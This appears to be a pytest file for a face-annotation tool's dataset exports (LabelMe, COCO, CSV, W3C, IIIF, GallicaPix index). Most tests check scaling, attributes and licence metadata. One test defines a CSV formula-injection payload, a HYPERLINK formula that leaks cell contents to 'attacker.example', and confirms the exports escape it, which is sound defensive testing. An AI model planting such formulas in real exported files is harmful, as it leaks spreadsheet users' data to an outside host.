"""Export formats: LabelMe loads in labelme, COCO in pycocotools, CSV / W3C / IIIF / GallicaPix index field by field."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from datetime import date
from pathlib import Path

import pytest
from PIL import Image

from annotations.exports.face_csv import FACE_CSV_COLUMNS, face_csv_rows
from annotations.exports.options import ExportOptions
from annotations.exports.services import export_to_path
from annotations.ingest.web_annotations import web_annotation_errors
from annotations.models import ExportKind, Face, ReviewStatus
from annotations.tests.factories import add_faces, export_document, scanned_document

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")


@pytest.fixture
def document(tmp_path, db):
    document = scanned_document(tmp_path / "scans")
    add_faces(document)
    return document


def test_labelme_export_loads_in_labelme_with_its_image(document, tmp_path):
    from labelme import LabelFile

    out = tmp_path / "labelme"
    result = export_document(ExportKind.LABELME, document, out, image_size=400)

    assert result.pages == 2 and result.faces == 4, "the rejected box is left out by default"
    files = sorted(out.glob("*.json"))
    assert [f.name for f in files] == [f"d{document.pk}_p0001.json", f"d{document.pk}_p0002.json"]
    for path in files:
        label_file = LabelFile(str(path))
        data = json.loads(path.read_text())
        with Image.open(out / data["imagePath"]) as img:
            assert (data["imageWidth"], data["imageHeight"]) == img.size
        assert data["imageData"] is None
        assert max(img.size) == 400
        assert all(isinstance(v, bool) for shape in label_file.shapes for v in shape["flags"].values())


def test_labelme_boxes_are_scaled_sorted_and_carry_attributes(document, tmp_path):
    out = tmp_path / "labelme"
    export_document(ExportKind.LABELME, document, out, image_size=400)

    data = json.loads((out / f"d{document.pk}_p0001.json").read_text())
    assert (data["imageWidth"], data["imageHeight"]) == (300, 400), "1200x1600 page within 400 px"
    woman = next(s for s in data["shapes"] if s["flags"]["female"])
    # Canvas box 100,200 150x180 at scale 1/4.
    assert woman["points"] == [[25.0, 50.0], [62.5, 95.0]]
    assert woman["shape_type"] == "rectangle" and woman["label"] == "face"
    assert woman["flags"] == {"female": True, "male": False, "child": False, "verified": True}
    assert woman["age"] == 34.0 and woman["confidence"] == 1.0
    assert json.loads(woman["description"]) == {
        "age": 34.0,
        "age_conf": 0.7,
        "det_conf": 1.0,
        "gender_conf": 0.83,
        "face_id": woman["face_id"],
        "source": "curator",
        "status": "added",
    }
    child = next(s for s in data["shapes"] if s["flags"]["child"])
    assert child["flags"]["verified"] is True and child["age"] == 8.0
    man = next(s for s in data["shapes"] if s["flags"]["male"])
    assert man["flags"]["verified"] is False, "an untouched prediction is not verified"


def test_labelme_zip_holds_json_and_jpegs_and_negatives_on_request(document, tmp_path):
    out = tmp_path / "export.zip"
    export_document(ExportKind.LABELME, document, out, include_rejected=True, image_size=500)

    with zipfile.ZipFile(out) as archive:
        names = sorted(archive.namelist())
        page1 = json.loads(archive.read(f"d{document.pk}_p0001.json"))
        jpeg = Image.open(io.BytesIO(archive.read(f"d{document.pk}_p0001.jpg")))
    assert len(names) == 4
    assert [s["label"] for s in page1["shapes"]].count("not_face") == 1
    assert jpeg.size == (page1["imageWidth"], page1["imageHeight"])


def test_labelme_without_images_states_the_size_images_would_have(document, tmp_path):
    out = tmp_path / "labelme"
    export_document(ExportKind.LABELME, document, out, with_images=False, image_size=800)

    assert not list(out.glob("*.jpg"))
    data = json.loads((out / f"d{document.pk}_p0001.json").read_text())
    assert (data["imageWidth"], data["imageHeight"]) == (600, 800)
    assert data["imageUrl"].endswith("/full/!800,800/0/default.jpg")


def test_coco_export_loads_in_pycocotools(document, tmp_path):
    from pycocotools.coco import COCO

    out = tmp_path / "coco.json"
    export_document(ExportKind.COCO, document, out, with_images=False, include_rejected=True)

    coco = COCO(str(out))
    assert len(coco.getImgIds()) == 2
    assert len(coco.getAnnIds()) == 5
    assert {c["name"] for c in coco.loadCats(coco.getCatIds())} == {"face", "not_face"}
    face_ids = coco.getAnnIds(catIds=coco.getCatIds(catNms=["face"]))
    assert len(face_ids) == 4
    woman = next(a for a in coco.loadAnns(face_ids) if a["attributes"]["gender"] == "female")
    assert woman["bbox"] == [100, 200, 150, 180] and woman["area"] == 150 * 180 and woman["iscrowd"] == 0
    assert woman["attributes"]["age"] == 34.0 and woman["attributes"]["verified"] is True
    image = coco.loadImgs(woman["image_id"])[0]
    assert (image["width"], image["height"]) == (1200, 1600)


def test_coco_with_images_scales_boxes_to_the_jpegs(document, tmp_path):
    from pycocotools.coco import COCO

    out = tmp_path / "coco.zip"
    export_document(ExportKind.COCO, document, out, image_size=600)

    with zipfile.ZipFile(out) as archive:
        (tmp_path / "annotations.json").write_bytes(archive.read("annotations.json"))
        sizes = {
            name: Image.open(io.BytesIO(archive.read(name))).size
            for name in archive.namelist()
            if name.endswith(".jpg")
        }
    coco = COCO(str(tmp_path / "annotations.json"))
    for image in coco.loadImgs(coco.getImgIds()):
        assert sizes[image["file_name"]] == (image["width"], image["height"])
    woman = next(a for a in coco.loadAnns(coco.getAnnIds()) if a["attributes"]["gender"] == "female")
    assert woman["bbox"] == [37.5, 75.0, 56.25, 67.5], "1200x1600 page within 600 px: scale 0.375"


def test_csv_has_one_row_per_face_with_the_detection_columns(document, tmp_path):
    out = tmp_path / "faces.csv"
    export_document(ExportKind.CSV, document, out, base_url="http://visages.test")

    rows = list(csv.DictReader(out.open()))
    assert tuple(rows[0].keys()) == FACE_CSV_COLUMNS
    assert len(rows) == 4
    woman = next(r for r in rows if r["gender"] == "female")
    assert (woman["x"], woman["y"], woman["w"], woman["h"]) == ("100", "200", "150", "180")
    assert woman["source"] == "curator" and woman["status"] == "added" and woman["child"] == "false"
    assert woman["document"] == str(document.pk)
    assert (
        woman["crop_url"].startswith("http://visages.test/iiif/local/")
        and "/!160,160/0/default.jpg" in woman["crop_url"]
    )
    assert woman["canvas"].startswith("http://visages.test/iiif/local/")


def test_face_csv_rows_serves_any_face_list(document):
    faces = Face.objects.select_related("page").filter(page__document=document).order_by("id")

    rows = list(face_csv_rows(faces))

    assert len(rows) == 5 and all(len(row) == len(FACE_CSV_COLUMNS) for row in rows)
    assert rows[0][FACE_CSV_COLUMNS.index("crop_url")].startswith("/iiif/local/")


def test_w3c_annotations_have_the_required_fields_and_xywh_targets(document, tmp_path):
    out = tmp_path / "faces.jsonld"
    export_document(ExportKind.W3C, document, out, base_url="http://visages.test")

    collection = json.loads(out.read_text())
    assert collection["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert collection["type"] == "AnnotationCollection" and collection["total"] == 4
    items = collection["first"]["items"]
    assert len(items) == 4
    assert all(web_annotation_errors(item) == [] for item in items)
    woman = next(i for i in items if any(b["value"] == "female" for b in i["body"]))
    assert woman["motivation"] == "tagging"
    assert woman["target"]["selector"] == {
        "type": "FragmentSelector",
        "conformsTo": "http://www.w3.org/TR/media-frags/",
        "value": "xywh=pixel:100,200,150,180",
    }
    describing = next(b for b in woman["body"] if b["purpose"] == "describing")
    assert json.loads(describing["value"])["age"] == 34.0
    assert woman["id"].startswith("http://visages.test/api/faces/")


def test_iiif_export_has_annotation_pages_per_canvas_and_a_manifest_that_references_them(document, tmp_path):
    out = tmp_path / "iiif.zip"
    files_url = "http://visages.test/api/exports/9/files"
    export_document(ExportKind.IIIF, document, out, base_url="http://visages.test", files_url=files_url)

    with zipfile.ZipFile(out) as archive:
        manifest = json.loads(archive.read(f"documents/{document.pk}/manifest.json"))
        page1 = json.loads(archive.read(f"documents/{document.pk}/annotations/p0001.json"))
    assert manifest["type"] == "Manifest" and manifest["id"] == f"{files_url}/documents/{document.pk}/manifest.json"
    canvas = manifest["items"][0]
    assert canvas["annotations"] == [{"id": page1["id"], "type": "AnnotationPage"}]
    assert page1["id"] == f"{files_url}/documents/{document.pk}/annotations/p0001.json"
    assert page1["type"] == "AnnotationPage" and len(page1["items"]) == 3
    targets = sorted(item["target"] for item in page1["items"])
    assert f"{canvas['id']}#xywh=100,200,150,180" in targets
    assert all(item["motivation"] == "tagging" for item in page1["items"])


def test_gallicapix_index_maps_faces_field_by_field(document, tmp_path):
    out = tmp_path / "index.json"
    export_document(ExportKind.INDEX, document, out, index_format="json")

    records = json.loads(out.read_text())
    assert [r["page"] for r in records] == [1, 2]
    page1 = records[0]
    assert page1["nVisages"] == 3 and (page1["nF"], page1["nM"], page1["nC"], page1["nP"]) == (1, 1, 1, 0)
    assert page1["sexes"] == "Mixte" and page1["une"] is True
    by_sexe = {face["sexe"]: face for face in page1["visages"]}
    assert by_sexe["F"]["persType"] == "faceW" and by_sexe["F"]["source"] == "hm" and by_sexe["F"]["CS"] == 1.0
    assert by_sexe["M"]["persType"] == "faceM" and by_sexe["M"]["source"] == "dnn" and by_sexe["M"]["CS"] == 0.91
    assert by_sexe["C"]["persType"] == "faceC" and by_sexe["C"]["edit"] is True
    assert (by_sexe["F"]["x"], by_sexe["F"]["y"], by_sexe["F"]["w"], by_sexe["F"]["h"]) == (100, 200, 150, 180)
    assert records[1]["sexes"] == "M"


def test_gallicapix_index_as_csv_has_one_row_per_page(document, tmp_path):
    out = tmp_path / "index.csv"
    export_document(ExportKind.INDEX, document, out, index_format="csv")

    rows = list(csv.DictReader(out.open()))
    assert [row["nVisages"] for row in rows] == ["3", "1"]
    assert len(json.loads(rows[0]["visages"])) == 3


def test_review_status_scope_exports_only_reviewed_pages(document, tmp_path):
    document.pages.filter(order=2).update(review_status=ReviewStatus.REVIEWED)
    out = tmp_path / "faces.csv"

    result = export_to_path(
        kind=ExportKind.CSV,
        scope={"document": document.pk, "review_status": "reviewed"},
        out=out,
        options=ExportOptions(),
    )

    assert result.pages == 1 and result.faces == 1
    assert [row["page"] for row in csv.DictReader(out.open())] == [str(document.pages.get(order=2).pk)]


def test_search_filters_select_faces_and_pages(document, tmp_path):
    out = tmp_path / "faces.csv"

    result = export_to_path(
        kind=ExportKind.CSV, scope={"document": document.pk, "gender": "faceW"}, out=out, options=ExportOptions()
    )

    assert result.pages == 1
    assert [row["gender"] for row in csv.DictReader(out.open())] == ["female"]


def test_index_records_carry_gallicapix_face_attributes_and_metadata_names(document, tmp_path):
    import xml.etree.ElementTree as ET

    record_xml = ET.parse(Path(__file__).resolve().parents[2] / "tests/fixtures/gallicapix/4600009.xml").getroot()
    ns = {"a": "https://altomator.github.io/Image_Retrieval/analyseAlto#"}
    gallicapix_faces = [e for e in record_xml.iterfind(".//a:contenuImg", ns) if e.text == "face"]
    out = tmp_path / "index.json"
    export_document(ExportKind.INDEX, document, out)

    ours = json.loads(out.read_text())[0]
    assert gallicapix_faces and all(set(face.attrib) <= set(ours["visages"][0]) for face in gallicapix_faces)
    assert {face.attrib["sexe"] for face in gallicapix_faces} <= {"F", "M", "C", "P"}
    assert {child.tag.split("}")[1] for child in record_xml.find("a:metad", ns)} >= {"ID", "titre", "dateEdition"}
    assert {"ID", "titre", "dateEdition"} <= set(ours)


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised(document, tmp_path, prefix):
    page = document.pages.get(order=1)
    page.__class__.objects.filter(pk=page.pk).update(canvas_id=prefix + FORMULA[1:])
    document.__class__.objects.filter(pk=document.pk).update(label=prefix + FORMULA[1:])
    export_document(ExportKind.CSV, document, tmp_path / "faces.csv")
    export_document(ExportKind.INDEX, document, tmp_path / "index.csv", index_format="csv")

    faces = list(csv.DictReader((tmp_path / "faces.csv").open(newline="")))
    index = list(csv.DictReader((tmp_path / "index.csv").open(newline="")))

    assert {row["canvas"] for row in faces if row["page"] == str(page.pk)} == {"'" + prefix + FORMULA[1:]}
    assert {row["titre"] for row in index} == {"'" + prefix + FORMULA[1:]}
    assert {row["canvas"] for row in index if row["page"] == "1"} == {"'" + prefix + FORMULA[1:]}
    woman = next(row for row in faces if row["gender"] == "female")
    assert (woman["x"], woman["age"], woman["source"]) == ("100", "34.0", "curator"), "numbers and plain text as-is"


def test_each_exported_page_says_where_it_comes_from_and_under_what_terms(document, tmp_path):
    # A retraining set of heritage images carries each page's record and reuse terms with it.
    document.label, document.date_start, document.date_text = (
        "Excelsior, 12 mars 1915",
        date(1915, 3, 12),
        "12 mars 1915",
    )
    document.license = "https://creativecommons.org/publicdomain/mark/1.0/"
    document.attribution = "Source gallica.bnf.fr / Bibliothèque nationale de France"
    document.manifest_url = "https://gallica.bnf.fr/iiif/ark:/12148/bpt6k46000341/manifest.json"
    document.save()
    other = scanned_document(tmp_path / "other", corpus=document.corpus)
    add_faces(other)
    for kind in (ExportKind.LABELME, ExportKind.COCO):
        out = tmp_path / kind
        export_to_path(
            kind=kind,
            scope={"corpus": document.corpus_id},
            out=out if kind == ExportKind.LABELME else out.with_suffix(".json"),
            options=ExportOptions(with_images=False),
        )

    page = json.loads((tmp_path / "labelme" / f"d{document.pk}_p0001.json").read_text())
    facts = ("documentLabel", "documentDate", "documentDateText", "manifest", "license", "attribution")
    assert {key: page[key] for key in facts} == {
        "documentLabel": "Excelsior, 12 mars 1915",
        "documentDate": "1915-03-12",
        "documentDateText": "12 mars 1915",
        "manifest": document.manifest_url,
        "license": document.license,
        "attribution": document.attribution,
    }
    unlicensed = json.loads((tmp_path / "labelme" / f"d{other.pk}_p0001.json").read_text())
    assert (unlicensed["license"], unlicensed["documentDate"]) == ("", None)

    coco = json.loads((tmp_path / "coco.json").read_text())
    assert coco["licenses"] == [{"id": 1, "name": document.license, "url": document.license}]
    by_document = {image["document_id"]: image for image in coco["images"]}
    assert by_document[document.pk]["license"] == 1
    assert by_document[document.pk]["attribution"] == document.attribution
    assert (by_document[document.pk]["date_captured"], by_document[document.pk]["date_text"]) == (
        "1915-03-12",
        "12 mars 1915",
    )
    assert "license" not in by_document[other.pk], "no licence stated, none made up"
